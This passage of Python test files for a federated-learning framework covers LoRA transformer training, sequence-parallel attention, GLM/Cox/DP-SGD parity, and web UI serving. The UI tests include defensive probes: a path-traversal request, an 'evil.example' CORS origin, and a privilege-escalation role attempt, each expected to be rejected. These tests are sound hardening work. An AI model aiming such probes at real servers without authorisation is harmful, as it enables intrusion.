        name="pending-for-late-node", image="v6-trn://stats",
        input_=make_task_input("partial_stats"),
    )
    # run stays pending — node is down
    time.sleep(0.5)
    runs = client.run.from_task(task["id"])
    assert runs[0]["status"] == "pending"

    rng = np.random.default_rng(1)
    late = Node(
        server_url=net3.base_url, api_key=reg["api_key"],
        databases=[Table({"a": rng.normal(size=10)})], name="late-node",
    )
    late.start()
    try:
        (res,) = client.wait_for_results(task["id"], timeout=60)
        assert res["count"][0] == 10.0
    finally:
        late.stop()


def test_concurrent_federated_jobs(net3):
    """Two central FedAvg jobs in flight at once — worker pools must not
    deadlock (central task occupies a worker while its partials run)."""
    import threading

    client = net3.researcher(0)
    results = {}

    def run_job(tag, org_idx):
        # pass explicit orgs: the late-node test added an org whose node
        # is now stopped — fanning out to it would (correctly) wait
        # forever, matching reference semantics for offline nodes.
        task = client.task.create(
            collaboration=net3.collaboration_id,
            organizations=[net3.org_ids[org_idx]],
            name=f"conc-{tag}", image="v6-trn://logreg",
            input_=make_task_input(
                "fit", kwargs={"features": ["x0", "x1"], "label": "y",
                               "rounds": 2, "epochs_per_round": 5,
                               "organizations": net3.org_ids},
            ),
        )
        (res,) = client.wait_for_results(task["id"], timeout=120)
        results[tag] = res

    threads = [threading.Thread(target=run_job, args=(i, i % 3))
               for i in range(3)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=150)
    assert len(results) == 3
    assert all(r and r["rounds"] == 2 for r in results.values()), results
