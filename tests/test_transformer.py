"""Transformer family: forward parity with ring attention, federated
LoRA fine-tune (plain + DP), sequence-parallel execution."""

import jax
import jax.numpy as jnp
import numpy as np

from vantage6_trn.algorithm.mock_client import MockAlgorithmClient
from vantage6_trn.algorithm.table import Table
from vantage6_trn.models import transformer as tfm
from vantage6_trn.parallel.ring import make_ring_attention, sequence_mesh


def _token_data(n=180, s=16, vocab=12, seed=5):
    """Class 1 iff token `1` appears more often than token `2`."""
    rng = np.random.default_rng(seed)
    toks = rng.integers(0, vocab, size=(n, s))
    y = (np.sum(toks == 1, axis=1) > np.sum(toks == 2, axis=1)).astype(int)
    cols = {f"tok{i}": toks[:, i].astype(np.int64) for i in range(s)}
    cols["label"] = y.astype(np.int64)
    return cols


def test_forward_shapes_and_ring_parity():
    base = tfm.init_params(vocab=12, d_model=16, n_layers=1, n_heads=2,
                           n_classes=3, max_len=32)
    base_j = jax.tree_util.tree_map(jnp.asarray, base)
    toks = jnp.asarray(
        np.random.default_rng(0).integers(0, 12, size=(4, 32)), jnp.int32
    )
    logits = tfm.forward(base_j, toks)
    assert logits.shape == (4, 3)
    # sequence-parallel attention gives the same logits
    mesh = sequence_mesh(8)
    ring = make_ring_attention(mesh)
    logits_sp = tfm.forward(base_j, toks, attn_fn=ring)
    np.testing.assert_allclose(np.asarray(logits), np.asarray(logits_sp),
                               rtol=2e-4, atol=2e-5)


def test_lora_adapters_modify_output_only_when_nonzero():
    base = tfm.init_params(vocab=10, d_model=16, n_layers=1, n_heads=2)
    ad = tfm.init_adapters(base, rank=2)
    base_j = jax.tree_util.tree_map(jnp.asarray, base)
    ad_j = jax.tree_util.tree_map(jnp.asarray, ad)
    toks = jnp.asarray(np.arange(8).reshape(1, 8), jnp.int32)
    out0 = tfm.forward(base_j, toks)
    out1 = tfm.forward(base_j, toks, adapters=ad_j)  # B zero-init → no-op
    np.testing.assert_allclose(np.asarray(out0), np.asarray(out1), atol=1e-6)
    ad["L0.wq.B"] = np.ones_like(ad["L0.wq.B"])
    out2 = tfm.forward(base_j, toks,
                       adapters=jax.tree_util.tree_map(jnp.asarray, ad))
    assert np.abs(np.asarray(out2) - np.asarray(out0)).max() > 1e-4


def test_federated_lora_finetune_learns():
    cols = _token_data()
    tables = [[Table({k: v[i::3] for k, v in cols.items()})]
              for i in range(3)]
    client = MockAlgorithmClient(datasets=tables, module=tfm)
    out = tfm.fit_lora(
        client, vocab=12, d_model=16, n_layers=1, n_heads=2, n_classes=2,
        max_len=16, rank=4, rounds=4, lr=0.5, epochs_per_round=6,
    )
    losses = [h["loss"] for h in out["history"]]
    assert losses[-1] < losses[0], losses
    # evaluate merged
    task = client.task.create(
        input_={"method": "partial_evaluate",
                "kwargs": {"base": out["base"],
                           "adapters": out["adapters"]},
                "args": []},
        organizations=client.organization_ids,
    )
    evs = client.wait_for_results(task["id"])
    acc = sum(e["correct"] for e in evs) / sum(e["n"] for e in evs)
    assert acc > 0.7, (acc, losses)


def test_federated_lora_dp_runs_and_clips():
    cols = _token_data(n=90)
    client = MockAlgorithmClient(datasets=[[Table(cols)]], module=tfm)
    out = tfm.fit_lora(
        client, vocab=12, d_model=16, n_layers=1, n_heads=2, n_classes=2,
        max_len=16, rounds=1, epochs_per_round=1, lr=1.0,
        dp=True, clip=1e-3, noise_multiplier=0.0,
    )
    delta = np.concatenate([
        np.ravel(out["adapters"][k]) for k in out["adapters"]
        if k.endswith(".B")
    ])
    assert np.abs(delta).max() <= 1e-3 + 1e-6  # per-example clip bound


def test_seq_parallel_fit_matches_single_device():
    """LoRA fit with ring attention over 8 devices == plain attention."""
    base = tfm.init_params(vocab=12, d_model=16, n_layers=1, n_heads=2,
                           n_classes=2, max_len=16)
    ad = tfm.init_adapters(base, rank=2)
    rng = np.random.default_rng(3)
    toks = jnp.asarray(rng.integers(0, 12, size=(6, 16)), jnp.int32)
    y = jnp.asarray(rng.integers(0, 2, size=6), jnp.int32)
    base_dev = {k: jnp.asarray(v) for k, v in base.items() if k != "_meta"}

    def run(sp, strategy="ring"):
        out, loss = tfm._local_fit(
            jax.tree_util.tree_map(jnp.asarray, ad), base_dev, toks, y,
            jnp.float32(0.2), jnp.float32(1.0), jnp.float32(0.0),
            jax.random.PRNGKey(0), 3, False, 1, 2, sp, strategy,
        )
        return jax.device_get(out), float(loss)

    out0, loss0 = run(0)
    out8, loss8 = run(8)
    np.testing.assert_allclose(loss0, loss8, rtol=1e-4)
    for k in out0:
        np.testing.assert_allclose(out0[k], out8[k], rtol=2e-4, atol=2e-5)
    # ulysses strategy: same math, A2A head-scatter (2 heads on 2 devs)
    outu, lossu = run(2, "ulysses")
    np.testing.assert_allclose(loss0, lossu, rtol=1e-4)
    for k in out0:
        np.testing.assert_allclose(out0[k], outu[k], rtol=2e-4, atol=2e-5)
    import pytest

    with pytest.raises(ValueError, match="seq_strategy"):
        run(2, "warp-drive")
