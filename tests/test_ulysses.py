"""Ulysses (all-to-all head-scatter) sequence parallelism parity on the
virtual CPU mesh — exact full attention, same contract as ring."""

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from vantage6_trn.parallel.ring import reference_attention, sequence_mesh
from vantage6_trn.parallel.ulysses import make_ulysses_attention


def _qkv(b=2, s=32, h=8, d=8, seed=0):
    rng = np.random.default_rng(seed)
    mk = lambda: jnp.asarray(
        rng.normal(size=(b, s, h, d)).astype(np.float32)
    )
    return mk(), mk(), mk()


@pytest.mark.parametrize("causal", [False, True])
def test_ulysses_matches_reference(causal):
    mesh = sequence_mesh(8)
    q, k, v = _qkv()
    out = make_ulysses_attention(mesh, causal=causal)(q, k, v)
    ref = reference_attention(q, k, v, causal=causal)
    np.testing.assert_allclose(
        np.asarray(out), np.asarray(ref), rtol=2e-4, atol=2e-5
    )


def test_ulysses_matches_ring():
    """The two sequence-parallel strategies must agree with each other,
    not just with the dense reference."""
    from vantage6_trn.parallel.ring import make_ring_attention

    mesh = sequence_mesh(4)
    q, k, v = _qkv(s=24, h=4, seed=3)
    u = make_ulysses_attention(mesh, causal=True)(q, k, v)
    r = make_ring_attention(mesh, causal=True)(q, k, v)
    np.testing.assert_allclose(np.asarray(u), np.asarray(r),
                               rtol=2e-4, atol=2e-5)


def test_ulysses_rejects_indivisible_heads():
    mesh = sequence_mesh(8)
    q, k, v = _qkv(h=6)  # 6 heads on 8 devices
    with pytest.raises(Exception, match="heads"):
        make_ulysses_attention(mesh)(q, k, v)


def test_ulysses_gradients_flow():
    """Backward through both all_to_alls (sequence fine-tuning path)."""
    mesh = sequence_mesh(4)
    q, k, v = _qkv(s=16, h=4, seed=5)
    attn = make_ulysses_attention(mesh, causal=True)

    def loss(q):
        return jnp.mean(attn(q, k, v) ** 2)

    def ref_loss(q):
        return jnp.mean(reference_attention(q, k, v, causal=True) ** 2)

    g = jax.grad(loss)(q)
    g_ref = jax.grad(ref_loss)(q)
    np.testing.assert_allclose(np.asarray(g), np.asarray(g_ref),
                               rtol=2e-4, atol=2e-5)
