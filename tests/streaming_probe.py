"""Probe algorithm for the incremental-results tests: workers finish at
controlled times (or fail on demand); the coordinator records the order
in which ``iter_results`` delivered them."""

import time

from vantage6_trn.algorithm.decorators import algorithm_client, data
from vantage6_trn.algorithm.table import Table  # noqa: F401 (wrap contract)
from vantage6_trn.common.serialization import make_task_input


@data(1)
def probe_worker(df, fail: bool = False, delay: float = 0.0):
    if fail:
        raise RuntimeError("probe worker told to fail")
    if delay:
        time.sleep(delay)
    # finished_at: workers and coordinator share the host clock, so the
    # incremental-delivery test can assert "arrived before the straggler
    # FINISHED" — a load-immune claim (batch delivery can only ever
    # deliver after it)
    return {"rows": len(df), "finished_at": time.time()}


@algorithm_client
def probe_coordinator(client, organizations, fail_org=None, delays=None):
    """Fan out one probe_worker per org; return results in ARRIVAL order
    (with wall-clock stamps) as seen through iter_results."""
    delays = delays or {}
    inputs = {
        oid: make_task_input(
            "probe_worker",
            kwargs={"fail": oid == fail_org,
                    "delay": float(delays.get(str(oid), 0.0))},
        )
        for oid in organizations
    }
    t = client.task.create(inputs=inputs, organizations=organizations)
    t0 = time.time()
    items = []
    for item in client.iter_results(t["id"]):
        items.append({
            "run_id": item["run_id"],
            "org": item["organization_id"],
            "status": item["status"],
            "ok": item["result"] is not None,
            "arrived_s": round(time.time() - t0, 3),
            "arrived_at": time.time(),
            "finished_at": (item["result"] or {}).get("finished_at"),
        })
    return {"items": items}
