"""Probe algorithm for the incremental-results tests: workers finish at
controlled times (or fail on demand); the coordinator records the order
in which ``iter_results`` delivered them."""

import time

from vantage6_trn.algorithm.decorators import algorithm_client, data
from vantage6_trn.algorithm.table import Table  # noqa: F401 (wrap contract)
from vantage6_trn.common.serialization import make_task_input


@data(1)
def probe_worker(df, fail: bool = False, delay: float = 0.0,
                 ballast=None):
    if fail:
        raise RuntimeError("probe worker told to fail")
    if delay:
        time.sleep(delay)
    # finished_at: workers and coordinator share the host clock, so the
    # incremental-delivery test can assert "arrived before the straggler
    # FINISHED" — a load-immune claim (batch delivery can only ever
    # deliver after it)
    out = {"rows": len(df), "finished_at": time.time()}
    if ballast is not None:
        # prove the large input actually reached the worker intact
        out["ballast_sum"] = float(ballast.sum())
    return out


@algorithm_client
def probe_coordinator(client, organizations, fail_org=None, delays=None):
    """Fan out one probe_worker per org; return results in ARRIVAL order
    (with wall-clock stamps) as seen through iter_results."""
    delays = delays or {}
    inputs = {
        oid: make_task_input(
            "probe_worker",
            kwargs={"fail": oid == fail_org,
                    "delay": float(delays.get(str(oid), 0.0))},
        )
        for oid in organizations
    }
    t = client.task.create(inputs=inputs, organizations=organizations)
    t0 = time.time()
    items = []
    for item in client.iter_results(t["id"]):
        items.append({
            "run_id": item["run_id"],
            "org": item["organization_id"],
            "status": item["status"],
            "ok": item["result"] is not None,
            "arrived_s": round(time.time() - t0, 3),
            "arrived_at": time.time(),
            "finished_at": (item["result"] or {}).get("finished_at"),
        })
    return {"items": items}


@algorithm_client
def probe_slim_fetch(client, organizations, ballast_kb: int = 256):
    """Regression probe for the slim incremental fetch: fan out a LARGE
    input (a stand-in for broadcast global weights) and measure the raw
    bytes the proxy's per-arrival ranged result downloads moved.

    ``v6_wire_bytes_total{codec="raw",direction="down"}`` is incremented
    only by ``transfer.download_blob`` — the path behind the proxy's
    incremental ``_fetch_open`` — so its delta across the iter_results
    drain IS the per-arrival download cost. The dev network runs every
    node in this process, so the process-global registry sees it."""
    import numpy as np

    from vantage6_trn.common.telemetry import REGISTRY

    ballast = np.ones(ballast_kb * 128, np.float64)  # ballast_kb KiB

    def raw_down():
        return REGISTRY.value("v6_wire_bytes_total",
                              codec="raw", direction="down")

    inputs = {
        oid: make_task_input("probe_worker", kwargs={"ballast": ballast})
        for oid in organizations
    }
    t = client.task.create(inputs=inputs, organizations=organizations)
    before = raw_down()
    items = list(client.iter_results(t["id"]))
    return {
        "n_items": len(items),
        "ok": all(i["result"] is not None for i in items),
        "ballast_sums": sorted((i["result"] or {}).get("ballast_sum", 0.0)
                               for i in items),
        "input_nbytes": int(ballast.nbytes),
        "raw_down_bytes": raw_down() - before,
    }
