"""Configs #4/#5 on the mock rung: federated GLM (horizontal + vertical),
Cox PH (WebDISCO aggregates), DP-SGD LoRA. Parity: federated == pooled."""

import numpy as np
import pytest

from vantage6_trn.algorithm.mock_client import MockAlgorithmClient
from vantage6_trn.algorithm.table import Table
from vantage6_trn.models import cox, dpsgd, glm, mlp


# ---------- horizontal GLM ----------
def _pooled_irls(x, y, family, max_iter=50):
    beta = np.zeros(x.shape[1])
    for _ in range(max_iter):
        eta = x @ beta
        if family == "binomial":
            mu = 1 / (1 + np.exp(-eta))
            w = np.clip(mu * (1 - mu), 1e-6, None)
            z = eta + (y - mu) / w
        elif family == "poisson":
            mu = np.exp(eta)
            w = mu
            z = eta + (y - mu) / w
        else:
            w = np.ones_like(eta)
            z = y
        beta_new = np.linalg.solve((x * w[:, None]).T @ x + 1e-8 * np.eye(x.shape[1]),
                                   (x * w[:, None]).T @ z)
        if np.max(np.abs(beta_new - beta)) < 1e-8:
            beta = beta_new
            break
        beta = beta_new
    return beta


@pytest.mark.parametrize("family", ["gaussian", "binomial", "poisson"])
def test_horizontal_glm_matches_pooled(family):
    rng = np.random.default_rng(11)
    n, p = 300, 3
    x = rng.normal(size=(n, p))
    beta_true = np.array([0.5, -0.8, 0.3])
    eta = x @ beta_true + 0.2
    if family == "gaussian":
        y = eta + 0.1 * rng.normal(size=n)
    elif family == "binomial":
        y = (rng.uniform(size=n) < 1 / (1 + np.exp(-eta))).astype(float)
    else:
        y = rng.poisson(np.exp(eta * 0.5)).astype(float)
        eta = eta * 0.5  # keep rates sane

    tables = []
    for i in range(3):
        sl = slice(i, None, 3)
        tables.append([Table({
            "x0": x[sl, 0], "x1": x[sl, 1], "x2": x[sl, 2], "y": y[sl],
        })])
    client = MockAlgorithmClient(datasets=tables, module=glm)
    out = glm.fit(client, features=["x0", "x1", "x2"], label="y",
                  family=family)
    assert out["converged"], out
    xd = np.concatenate([np.ones((n, 1)), x], axis=1)
    pooled = _pooled_irls(xd, y, family)
    np.testing.assert_allclose(out["beta"], pooled, rtol=2e-3, atol=2e-3)


# ---------- vertical GLM ----------
def test_vertical_glm_binomial_recovers_direction():
    rng = np.random.default_rng(21)
    n = 400
    x = rng.normal(size=(n, 4))
    beta_true = np.array([1.0, -1.0, 0.5, -0.5])
    y = (rng.uniform(size=n) < 1 / (1 + np.exp(-(x @ beta_true)))).astype(float)
    # org1 holds f0,f1; org2 holds f2,f3; label at org1. SAME row order.
    t1 = Table({"f0": x[:, 0], "f1": x[:, 1], "y": y})
    t2 = Table({"f2": x[:, 2], "f3": x[:, 3]})
    client = MockAlgorithmClient(datasets=[[t1], [t2]], module=glm)
    out = glm.vertical_fit(
        client,
        feature_blocks={1: ["f0", "f1"], 2: ["f2", "f3"]},
        label_org=1, label="y", family="binomial",
    )
    beta = np.concatenate([out["betas"]["1"], out["betas"]["2"]])
    cos = beta @ beta_true / (
        np.linalg.norm(beta) * np.linalg.norm(beta_true)
    )
    assert cos > 0.97, (beta, out["iterations"])


# ---------- Cox PH ----------
def test_cox_webdisco_matches_pooled_newton():
    rng = np.random.default_rng(31)
    n, p = 240, 2
    x = rng.normal(size=(n, p))
    beta_true = np.array([0.7, -0.5])
    t = rng.exponential(scale=np.exp(-(x @ beta_true)))
    c = rng.exponential(scale=np.median(t) * 2, size=n)
    time = np.minimum(t, c)
    event = (t <= c).astype(int)
    # round times to create ties + finite event-time list
    time = np.round(time, 2) + 0.01

    tables = []
    for i in range(3):
        sl = slice(i, None, 3)
        tables.append([Table({
            "x0": x[sl, 0], "x1": x[sl, 1],
            "time": time[sl], "event": event[sl],
        })])
    client = MockAlgorithmClient(datasets=tables, module=cox)
    out = cox.fit(client, features=["x0", "x1"])
    assert out["converged"], out

    # pooled Breslow Newton (same estimator) for parity
    def pooled_cox(x, time, event, iters=30):
        beta = np.zeros(p)
        times = np.unique(time[event == 1])
        for _ in range(iters):
            eta = x @ beta
            r = np.exp(eta)
            grad = np.zeros(p)
            info = np.zeros((p, p))
            for tk in times:
                risk = time >= tk
                dk = ((time == tk) & (event == 1)).sum()
                if dk == 0:
                    continue
                s0 = r[risk].sum()
                s1 = (r[risk, None] * x[risk]).sum(0)
                s2 = (r[risk, None, None]
                      * np.einsum("ip,iq->ipq", x[risk], x[risk])).sum(0)
                sx = x[(time == tk) & (event == 1)].sum(0)
                mean = s1 / s0
                grad += sx - dk * mean
                info += dk * (s2 / s0 - np.outer(mean, mean))
            step = np.linalg.solve(info + 1e-8 * np.eye(p), grad)
            beta = beta + step
            if np.max(np.abs(step)) < 1e-8:
                break
        return beta

    pooled = pooled_cox(x, time, event)
    np.testing.assert_allclose(out["beta"], pooled, rtol=1e-3, atol=1e-3)
    assert abs(out["beta"][0] - 0.7) < 0.35  # near the generating value


# ---------- DP-SGD LoRA ----------
def _class_data(n, d, classes, seed):
    rng = np.random.default_rng(seed)
    centers = rng.normal(size=(classes, d)) * 3.0
    y = rng.integers(0, classes, size=n)
    x = centers[y] + rng.normal(size=(n, d))
    cols = {f"f{i}": x[:, i].astype(np.float32) for i in range(d)}
    cols["label"] = y.astype(np.int64)
    return cols


def test_dpsgd_lora_learns_with_low_noise():
    cols = _class_data(450, 10, 3, seed=41)
    tables = [[Table({k: v[i::3] for k, v in cols.items()})] for i in range(3)]
    client = MockAlgorithmClient(datasets=tables, module=dpsgd)
    out = dpsgd.fit_lora(
        client, label="label", n_features=10, hidden=[16], n_classes=3,
        rank=4, rounds=4, lr=0.5, clip=2.0,
        noise_multiplier=0.05, epochs_per_round=8,
    )
    assert out["dp"]["epsilon_approx"] > 0
    merged = dpsgd.effective_params(out["base"], out["adapters"])
    ev = mlp.evaluate(
        MockAlgorithmClient(datasets=tables, module=mlp), merged,
        label="label",
    )
    # adapters moved the frozen base: beat chance clearly
    assert ev["accuracy"] > 0.6, ev


def test_dpsgd_only_adapters_change():
    cols = _class_data(120, 6, 2, seed=43)
    tables = [[Table(cols)]]
    client = MockAlgorithmClient(datasets=tables, module=dpsgd)
    out = dpsgd.fit_lora(
        client, label="label", n_features=6, hidden=[8], n_classes=2,
        rounds=1, epochs_per_round=2, noise_multiplier=0.0,
    )
    base2 = mlp.init_params([6, 8, 2])  # same seed → identical base
    for k in base2:
        np.testing.assert_array_equal(out["base"][k], base2[k])
    assert any(np.abs(out["adapters"][k]).max() > 0
               for k in out["adapters"] if k.startswith("B"))


def test_clipping_bounds_update_magnitude():
    """With huge noise_multiplier=0 and tiny clip, per-step movement of
    adapters is bounded by lr * clip."""
    cols = _class_data(60, 5, 2, seed=44)
    client = MockAlgorithmClient(datasets=[[Table(cols)]], module=dpsgd)
    out = dpsgd.fit_lora(
        client, label="label", n_features=5, hidden=[4], n_classes=2,
        rounds=1, epochs_per_round=1, lr=1.0, clip=1e-3,
        noise_multiplier=0.0,
    )
    delta = np.concatenate([
        np.ravel(out["adapters"][k]) for k in out["adapters"]
        if k.startswith("B")
    ])
    assert np.abs(delta).max() <= 1e-3 + 1e-6


def test_dp_noise_not_reproducible_from_task_input():
    """DP noise must come from local entropy: two runs with an identical
    task input (same seed kwarg) must produce different noised updates,
    otherwise any party holding the task input could regenerate and
    subtract the noise exactly."""
    cols = _class_data(40, 5, 2, seed=45)
    t = Table(cols)
    base = mlp.init_params([5, 4, 2])
    adapters = dpsgd.init_adapters(base, rank=2)
    kw = dict(base=base, adapters=adapters, label="label", lr=0.1,
              clip=1.0, noise_multiplier=1.0, epochs=1, seed=7)
    out1 = dpsgd.partial_fit_dpsgd(t, **kw)
    out2 = dpsgd.partial_fit_dpsgd(t, **kw)
    assert any(
        not np.array_equal(out1["weights"][k], out2["weights"][k])
        for k in out1["weights"]
    )


# secure aggregation now has its own suite: tests/test_secure_agg.py
