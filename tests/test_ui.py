"""Web UI serving: static SPA assets at /app/ (no auth), CORS surface
for browser clients (reference: separately-hosted Angular UI talks to a
CORS-enabled REST API — SURVEY.md §2.1 UI row)."""

import http.client

import pytest

from vantage6_trn.server import ServerApp


@pytest.fixture()
def server():
    app = ServerApp(root_password="pw")
    port = app.start()
    yield port
    app.stop()


def _req(port, method, path, headers=None):
    con = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    con.request(method, path, headers=headers or {})
    resp = con.getresponse()
    body = resp.read()
    con.close()
    return resp, body


def test_root_redirects_to_app(server):
    resp, _ = _req(server, "GET", "/")
    assert resp.status == 302
    assert resp.getheader("Location") == "/app/"


def test_index_served_without_auth(server):
    resp, body = _req(server, "GET", "/app/")
    assert resp.status == 200
    assert "text/html" in resp.getheader("Content-Type")
    assert b"vantage6" in body


def test_assets_served_with_mime_types(server):
    resp, body = _req(server, "GET", "/app/app.js")
    assert resp.status == 200
    assert "javascript" in resp.getheader("Content-Type")
    assert b"sealForOrg" in body  # the in-browser E2E crypto is present
    resp, body = _req(server, "GET", "/app/style.css")
    assert resp.status == 200
    assert "text/css" in resp.getheader("Content-Type")


def test_unknown_asset_404s(server):
    resp, _ = _req(server, "GET", "/app/nope.js")
    assert resp.status == 404
    resp, _ = _req(server, "GET", "/app/..%2Fapp.py")
    assert resp.status == 404


def test_api_still_requires_auth(server):
    resp, _ = _req(server, "GET", "/api/task")
    assert resp.status == 401


def test_browser_seal_format_is_node_compatible():
    """app.js sealForOrg() builds the wire string with WebCrypto
    RSA-OAEP/SHA-256 + AES-256-CTR (counter length 128 = full-block
    increment). No JS runtime exists in this image, so replicate the
    byte-exact spec-defined operations here and prove the node-side
    cryptor opens the result — and vice versa for openPayload()."""
    import base64
    import os

    pytest.importorskip("cryptography", reason="replays WebCrypto sealing")
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import padding
    from cryptography.hazmat.primitives.ciphers import (
        Cipher, algorithms, modes,
    )

    from vantage6_trn.common.encryption import RSACryptor

    org = RSACryptor(key_bits=2048)
    payload = b'{"method":"partial_stats","args":[],"kwargs":{}}'

    # --- what the browser's sealForOrg does, per the WebCrypto spec ---
    pub = serialization.load_der_public_key(
        base64.b64decode(org.public_key_str)  # importKey('spki', ...)
    )
    aes_key, iv = os.urandom(32), os.urandom(16)
    enc = Cipher(algorithms.AES(aes_key), modes.CTR(iv)).encryptor()
    ct = enc.update(payload) + enc.finalize()
    enc_key = pub.encrypt(
        aes_key,
        padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                     algorithm=hashes.SHA256(), label=None),
    )
    wire = "$".join(
        base64.b64encode(x).decode() for x in (enc_key, iv, ct)
    )
    assert org.decrypt_str_to_bytes(wire) == payload

    # --- reverse: node seals a result, browser's openPayload opens it ---
    wire2 = org.encrypt_bytes_to_str(b"result-bytes", org.public_key_str)
    k_b, iv_b, ct_b = (base64.b64decode(p) for p in wire2.split("$"))
    priv = serialization.load_pem_private_key(  # importKey('pkcs8', ...)
        org.private_key_pem, password=None
    )
    aes2 = priv.decrypt(
        k_b,
        padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                     algorithm=hashes.SHA256(), label=None),
    )
    dec = Cipher(algorithms.AES(aes2), modes.CTR(iv_b)).decryptor()
    assert dec.update(ct_b) + dec.finalize() == b"result-bytes"


def test_ui_task_flow_with_browser_sealed_input(tmp_path):
    """End-to-end over the exact HTTP requests app.js makes: researcher
    logs in, seals a per-org input the browser way, POSTs /task, and the
    node decrypts + executes it."""
    import base64
    import json
    import os
    import urllib.request

    import numpy as np

    pytest.importorskip("cryptography", reason="replays WebCrypto sealing")
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import padding
    from cryptography.hazmat.primitives.ciphers import (
        Cipher, algorithms, modes,
    )

    from vantage6_trn.algorithm.table import Table
    from vantage6_trn.dev import DemoNetwork

    net = DemoNetwork([[Table({"a": np.arange(5.0)})]],
                      encrypted=True).start()
    try:
        net.researcher(0)
        base = net.base_url  # .../api

        def fetch(path, body=None, token=None):
            req = urllib.request.Request(
                base + path,
                data=json.dumps(body).encode() if body is not None else None,
                headers={"Content-Type": "application/json", **(
                    {"Authorization": f"Bearer {token}"} if token else {})},
            )
            with urllib.request.urlopen(req, timeout=15) as r:
                return json.loads(r.read())

        tok = fetch("/token/user", {"username": "researcher-0",
                                    "password": "pw"})["access_token"]
        org = fetch(f"/organization/{net.org_ids[0]}", token=tok)
        assert org["public_key"]  # node uploaded it at startup

        # seal exactly like sealForOrg()
        pub = serialization.load_der_public_key(
            base64.b64decode(org["public_key"]))
        payload = json.dumps({"method": "partial_stats", "args": [],
                              "kwargs": {}}).encode()
        aes_key, iv = os.urandom(32), os.urandom(16)
        enc = Cipher(algorithms.AES(aes_key), modes.CTR(iv)).encryptor()
        ct = enc.update(payload) + enc.finalize()
        enc_key = pub.encrypt(aes_key, padding.OAEP(
            mgf=padding.MGF1(hashes.SHA256()),
            algorithm=hashes.SHA256(), label=None))
        wire = "$".join(base64.b64encode(x).decode()
                        for x in (enc_key, iv, ct))

        task = fetch("/task", {
            "collaboration_id": net.collaboration_id,
            "organizations": [{"id": net.org_ids[0], "input": wire}],
            "image": "v6-trn://stats", "name": "from-ui",
        }, token=tok)
        client = net.researcher(0)
        (res,) = client.wait_for_results(task["id"], timeout=30)
        assert res["count"][0] == 5.0
    finally:
        net.stop()


def test_cors_default_is_same_origin_only(server):
    """The bundled UI is served by the API itself, so by default no
    cross-origin page may read responses (or drive login flows from a
    victim's browser — advisor finding, round 2)."""
    resp, _ = _req(server, "OPTIONS", "/api/task",
                   {"Origin": "http://elsewhere",
                    "Access-Control-Request-Method": "POST"})
    assert resp.status == 204  # preflight answered, but no grant:
    assert resp.getheader("Access-Control-Allow-Origin") is None
    resp, _ = _req(server, "GET", "/api/health")
    assert resp.getheader("Access-Control-Allow-Origin") is None


def test_cors_configurable_origins():
    """Deployments with a separately-hosted UI allowlist its origin;
    the grant echoes the origin (with Vary) rather than wildcarding."""
    app = ServerApp(root_password="pw",
                    cors_origins=["http://ui.example"])
    port = app.start()
    try:
        resp, _ = _req(port, "OPTIONS", "/api/task",
                       {"Origin": "http://ui.example",
                        "Access-Control-Request-Method": "POST"})
        assert resp.status == 204
        assert (resp.getheader("Access-Control-Allow-Origin")
                == "http://ui.example")
        assert "Authorization" in resp.getheader(
            "Access-Control-Allow-Headers")
        assert resp.getheader("Vary") == "Origin"
        # a non-listed origin gets no grant
        resp, _ = _req(port, "GET", "/api/health",
                       {"Origin": "http://evil.example"})
        assert resp.getheader("Access-Control-Allow-Origin") is None
    finally:
        app.stop()


def test_ui_assets_expose_roles_studies_recovery(server):
    """The SPA ships the round-3 surfaces: roles/rules management, a
    studies route, and login-page recovery (VERDICT r2 item #7)."""
    resp, body = _req(server, "GET", "/app/app.js")
    assert resp.status == 200
    for marker in (b"viewRoles", b"viewStudies", b"/recover/lost",
                   b"/recover/2fa-reset", b"data-roles"):
        assert marker in body, marker
    resp, body = _req(server, "GET", "/app/")
    assert b"#/roles" in body and b"#/studies" in body


def test_role_crud_and_grant_invariant(server):
    """Custom roles: create with a rule subset, edit, delete; default
    roles immutable; and the security invariant — you can only grant
    rules you hold — enforced for role creation AND user assignment."""
    from vantage6_trn.client import UserClient

    root = UserClient(f"http://127.0.0.1:{server}")
    root.authenticate("root", "pw")
    rules = root.request("GET", "/rule")["data"]
    task_view = [r["id"] for r in rules
                 if r["name"] == "task" and r["operation"] == "view"]

    role = root.request("POST", "/role", json_body={
        "name": "TaskWatcher", "description": "sees tasks",
        "rules": task_view})
    assert sorted(role["rules"]) == sorted(task_view)

    # edit: narrow to one rule
    out = root.request("PATCH", f"/role/{role['id']}",
                       json_body={"rules": task_view[:1],
                                  "description": "narrowed"})
    assert out["rules"] == task_view[:1]
    assert out["description"] == "narrowed"

    # default roles are immutable
    roles = root.request("GET", "/role")["data"]
    researcher = next(r for r in roles if r["name"] == "Researcher")
    for method in ("PATCH", "DELETE"):
        try:
            root.request(method, f"/role/{researcher['id']}",
                         json_body={"description": "x"})
            raise AssertionError("default role was mutated")
        except RuntimeError as e:
            assert "403" in str(e)

    # a Researcher cannot mint a role carrying rules they don't hold
    oid = root.organization.create(name="r-org")["id"]
    root.user.create("limited", "pw", organization_id=oid,
                     roles=["Researcher"])
    lim = UserClient(f"http://127.0.0.1:{server}")
    lim.authenticate("limited", "pw")
    try:
        lim.request("POST", "/role", json_body={
            "name": "Sneaky", "rules": [r["id"] for r in rules]})
        raise AssertionError("privilege escalation via role create")
    except RuntimeError as e:
        assert "403" in str(e)

    # assignment grants rules: root assigns TaskWatcher to limited
    out = root.request("PATCH", f"/user/{lim.whoami['id']}",
                       json_body={"roles": ["Researcher", "TaskWatcher"]})
    assert len(out["roles"]) == 2
    # user list surfaces role ids for the UI
    me = next(u for u in root.request("GET", "/user")["data"]
              if u["username"] == "limited")
    assert len(me["roles"]) == 2

    root.request("DELETE", f"/role/{role['id']}")
    roles_after = root.request("GET", "/role")["data"]
    assert all(r["name"] != "TaskWatcher" for r in roles_after)


def test_role_name_unique_and_revocation_needs_authority(server):
    """(a) A custom role cannot shadow a default role's name (names key
    immutability and assignment); (b) revoking roles or deleting users
    requires holding the revoked rules — an org-scoped admin cannot
    strip or delete a global admin in their org."""
    from vantage6_trn.client import UserClient

